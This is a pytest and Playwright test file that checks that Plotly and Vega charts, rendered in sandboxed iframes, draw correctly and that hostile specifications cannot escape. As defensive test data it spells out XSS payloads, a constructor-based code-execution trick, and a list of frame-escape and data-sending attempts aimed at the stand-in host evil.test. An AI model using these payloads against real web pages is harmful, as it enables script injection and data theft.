"""Charts in their frames: they are drawn, their pictures come back, and a hostile specification reaches nothing."""

from __future__ import annotations

import base64
import gzip
import io
import json
from collections.abc import Callable
from typing import Any

import altair
import pandas
import plotly.express
import pytest
from bare import ASKED, HOME, BareCard
from lab import until
from PIL import Image
from playwright.sync_api import Error, Frame

from smolcell.events import Bundle, Observed
from smolcell.worker.runner.charts import PLOTLY

NewCard = Callable[..., BareCard]

EVIL = "http://evil.test"

VEGALITE = "application/vnd.vegalite.v6+json"
VEGA = "application/vnd.vega.v6+json"
TABLE = pandas.DataFrame({"city": ["Oslo", "Rome", "Bonn"], "people": [7, 28, 3]})
BARS = plotly.express.bar(TABLE, x="city", y="people", title="Cities").to_json()
POINTS = altair.Chart(TABLE).mark_bar().encode(x="city", y="people", color="city").properties(title="Cities").to_json()


def show(card: BareCard, mime: str, spec: str, *, step: int = 1) -> None:
    card.ran("show()", Observed(outputs=(Bundle(data={mime: spec, "text/plain": "a chart of cities"}),)), step=step)


def pictures(card: BareCard) -> list[dict[str, Any]]:
    card.page.wait_for_timeout(50)
    found = card.page.evaluate("window.sent.filter(({ type }) => type === 'picture')")
    return list(found)


def colours(data: str) -> int:
    image = Image.open(io.BytesIO(base64.b64decode(data)))
    return len(image.convert("RGB").getcolors(1 << 24) or [])


def drawing(card: BareCard) -> Frame:
    """The frame that the last chart is drawn in."""
    return card.page.frames[-1]


@pytest.mark.parametrize(
    ("mime", "spec"), [(PLOTLY, BARS), pytest.param(VEGALITE, POINTS, marks=pytest.mark.slow)], ids=["plotly", "altair"]
)
def test_a_chart_is_drawn_and_its_picture_comes_back(new_card: NewCard, mime: str, spec: str) -> None:
    card = new_card()
    card.push(ASKED)
    show(card, mime, spec)
    [picture] = until(lambda: pictures(card), "the picture comes", 120)

    assert {**picture, "data": ""} == {"type": "picture", "run": "r", "step": 1, "call": 0, "output": 0, "data": ""}
    assert colours(picture["data"]) > 20  # a blank one has one
    frame = card.el.locator("iframe")
    assert frame.get_attribute("sandbox") == "allow-scripts"
    until(lambda: 200 < (frame.bounding_box() or {})["height"] < 600, "the frame is as high as the chart")
    assert card.requests == []
    assert drawing(card).evaluate("self.origin") == "null"


# --- hostile specifications and frames --------------------------------------------------------------------------------


FREE = """const one = document.createElement("iframe");
one.sandbox = "allow-scripts";
one.srcdoc = `<img src="${url}">`;
document.body.append(one);"""


def untouched(card: BareCard, elsewhere: Any) -> None:
    """Nothing left the page or went elsewhere; a frame of the same kind, without a policy, would have been noticed."""
    card.page.wait_for_timeout(1000)
    assert (card.requests, card.page.url, len(card.page.context.pages)) == ([], HOME, 1)
    assert card.page.evaluate("window.hit ?? null") is None
    assert elsewhere.reached == []
    card.page.evaluate(f"url => {{ {FREE} }}", f"{EVIL}/control")
    until(lambda: card.page.wait_for_timeout(50) or card.requests or elsewhere.reached, "the control is noticed")
    card.page.wait_for_timeout(200)  # a second try of the browser
    elsewhere.reached.clear()


def plotly_specs(url: str) -> list[dict[str, Any]]:
    link = f"<a href='{url}/link' target='_self'>click</a><a href='javascript:parent.parent.hit=1'>click</a>"
    evil = f"<img src={url}/i onerror='parent.parent.hit=1'></script><script>parent.parent.hit=1</script>"
    bar = {"type": "bar", "x": ["a", link], "y": [1, 2], "text": [link, evil], "hovertemplate": evil}
    image = {"source": f"{url}/image.png", "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}
    layout = {"title": {"text": evil + link}, "annotations": [{"text": link, "x": 0, "y": 1}], "images": [image]}
    config = {"plotlyServerURL": url, "topojsonURL": f"{url}/topo/", "mapboxAccessToken": "x", "showSendToCloud": True}
    tiles = {"style": f"{url}/style.json", "layers": [{"sourcetype": "raster", "source": [f"{url}/{{z}}"]}]}
    return [
        {"data": [bar], "layout": layout, "config": config},
        {"data": [{"type": "image", "source": f"{url}/trace.png"}], "layout": {}},
        {"data": [{"type": "scattergeo", "lon": [1], "lat": [1]}], "layout": {}, "config": config},
        {"data": [{"type": "scattermap", "lon": [1], "lat": [1]}], "layout": {"map": tiles, "mapbox": tiles}},
        {"data": [bar], "layout": {"map": tiles}, "frames": [{"data": [{"type": "scattermap"}], "layout": {"map": tiles}}]},
    ]  # fmt: skip


def vega_specs(url: str) -> list[dict[str, Any]]:
    lite = {"$schema": "https://vega.github.io/schema/vega-lite/v6.json", "data": {"values": [{"a": f"{url}/a.png"}]}}
    full = {"$schema": "https://vega.github.io/schema/vega/v6.json", "width": 90, "height": 90}
    box = {
        "x": {"value": 0},
        "y": {"value": 0},
        "width": {"value": 90},
        "height": {"value": 90},
        "fill": {"value": "red"},
    }
    code = "window.parent.parent.hit=1, event.view.constructor.constructor('parent.parent.hit=1')()"
    return [
        {**lite, "data": {"url": f"{url}/data.csv"}, "mark": "point", "usermeta": {"embedOptions": {"loader": url}}},
        {**lite, "mark": "image", "encoding": {"url": {"field": "a"}, "href": {"field": "a"}}},
        {**lite, "mark": {"type": "bar", "href": f"{url}/click"}, "encoding": {"x": {"field": "a"}}},
        {**full, "data": [{"name": "d", "url": f"{url}/d.json", "format": {"type": "json"}}]},
        {**full, "marks": [{"type": "rect", "encode": {"enter": {**box, "href": {"value": f"{url}/rect"}}}}]},
        {**full, "marks": [{"type": "image", "encode": {"enter": {"url": {"value": f"{url}/image.png"}}}}]},
        {**full, "signals": [{"name": "s", "on": [{"events": "mousemove", "update": code}]}]},
        {**full, "signals": [{"name": "s", "bind": {"input": "text", "element": "body"}, "value": f"<img src={url}/b>"}]},
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("mime", "specs"),
    [pytest.param(PLOTLY, plotly_specs, marks=pytest.mark.slow), (VEGA, vega_specs)],
    ids=["plotly", "vega"],
)
def test_hostile_specifications_reach_nothing(new_card: NewCard, elsewhere: Any, mime: str, specs: Any) -> None:
    card = new_card(height=4000)  # all frames are in sight, to be clicked
    card.push(ASKED)
    bundles = [Bundle(data={mime: json.dumps(spec), "text/plain": "a chart"}) for spec in specs(EVIL)]
    card.ran("show()", Observed(outputs=tuple(bundles)))  # in one step, because earlier ones of eight are collapsed
    charts, faults = card.el.locator(".smolcell-chart"), card.el.get_by_text("The chart is not drawn")
    drawn: set[int] = set()

    def settled() -> bool:
        drawn.update(picture["output"] for picture in pictures(card))
        return 0 < charts.count() == len(drawn) + faults.count()

    try:
        until(settled, "the charts are drawn, or not", 120)
    except AssertionError as error:
        frames = [(frame.name, frame.url, frame.is_detached()) for frame in card.page.frames]
        raise AssertionError(f"{charts.count()} charts; {drawn} drawn; {faults.all_inner_texts()}; {frames}") from error
    for frame in card.page.frames[1:]:
        try:
            click(frame)
        except Error:
            assert frame.is_detached()  # the card has removed a chart that is not drawn
    untouched(card, elsewhere)


def click(frame: Frame) -> None:
    place = frame.locator("#chart")
    if place.is_visible():
        place.click(force=True, position={"x": 40, "y": 40}, timeout=5000)
    for word in frame.get_by_text("click").all():
        word.click(force=True, timeout=5000)


ESCAPES = """
const url = "URL", page = parent.parent;
const attempts = [
  () => fetch(url + "/fetch"), () => navigator.sendBeacon(url + "/beacon"), () => { new Image().src = url + "/img"; },
  () => new WebSocket(url.replace("http", "ws") + "/ws"), () => new EventSource(url + "/sse"), () => import(url + "/m.js"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "/worker')"]))), () => eval("page.hit = 1"),
  () => open(url + "/popup"), () => { top.location = url + "/top"; }, () => { page.location = url + "/page"; },
  () => { page.document.title = "hit"; }, () => { page.hit = 1; }, () => { page.localStorage.x = 1; }, () => alert(1),
  () => document.head.append(Object.assign(document.createElement("script"), { src: url + "/script.js" })),
  () => document.head.append(Object.assign(document.createElement("script"), { text: "parent.parent.hit = 1" })),
  () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url + "/x.css" })),
  () => document.body.append(Object.assign(document.createElement("iframe"), { src: url + "/frame" })),
  () => document.body.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=" + url + "/refresh'>"),
  () => { const a = Object.assign(document.createElement("a"), { href: url + "/a", download: "x" }); document.body.append(a); a.click(); },
  () => { const f = Object.assign(document.createElement("form"), { action: url + "/form" }); document.body.append(f); f.submit(); },
  ...[null, 1, "x", [], { type: "json", text: "{}" }, { type: "event", seq: 1, event: {} }, { height: "9px" }, { height: 1e9 },
      { picture: "x" }, { picture: { length: 1 } }, { picture: "PNG".repeat(4e6) }, { fault: "<img src=x onerror=parent.hit=1>" }]
    .map(message => () => page.postMessage(message, "*")),
  () => { parent.location = url + "/outer"; },
  () => { location = url + "/self"; },
];
for (const attempt of attempts) { try { Promise.resolve(attempt()).catch(() => 0); } catch {} }
"""


def test_even_a_hostile_library_reaches_nothing(new_card: NewCard, elsewhere: Any) -> None:
    dialogs: list[str] = []
    card = new_card()
    card.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    code = gzip.compress(ESCAPES.replace("URL", EVIL, 1).encode())
    card.page.route("**/plotly.gz", lambda route: route.fulfill(body=code, content_type="application/octet-stream"))
    card.push(ASKED)
    show(card, PLOTLY, BARS)
    until(lambda: card.el.get_by_text("The chart is not drawn: <img").count(), "the frame's messages came")
    untouched(card, elsewhere)
    assert pictures(card) == []
    assert dialogs == []


@pytest.mark.slow
def test_messages_of_others_are_not_taken_for_a_chart_s(new_card: NewCard) -> None:
    card = new_card()
    card.push(ASKED)
    show(card, PLOTLY, BARS)
    until(lambda: pictures(card), "the picture comes")
    card.page.evaluate("window.postMessage({ fault: 'faked', height: 77 }, '*')")
    frame = "const one = document.body.appendChild(document.createElement('iframe'));"
    card.page.evaluate(
        frame + "one.srcdoc = `<script>parent.postMessage({ fault: 'faked', height: 77 }, '*')</script>`"
    )
    card.page.wait_for_timeout(500)
    assert card.el.get_by_text("faked").count() == 0
    assert len(pictures(card)) == 1


@pytest.mark.slow
def test_a_chart_out_of_sight_is_drawn(new_card: NewCard) -> None:
    card = new_card(height=200)
    card.push(ASKED)
    for step in range(1, 9):
        card.ran("\n".join(f"line = {n}" for n in range(30)), Observed(), step=step)
    show(card, PLOTLY, BARS, step=9)
    [picture] = until(lambda: pictures(card), "the picture comes", 120)

    assert card.page.evaluate("scrollY") == 0
    assert colours(picture["data"]) > 20
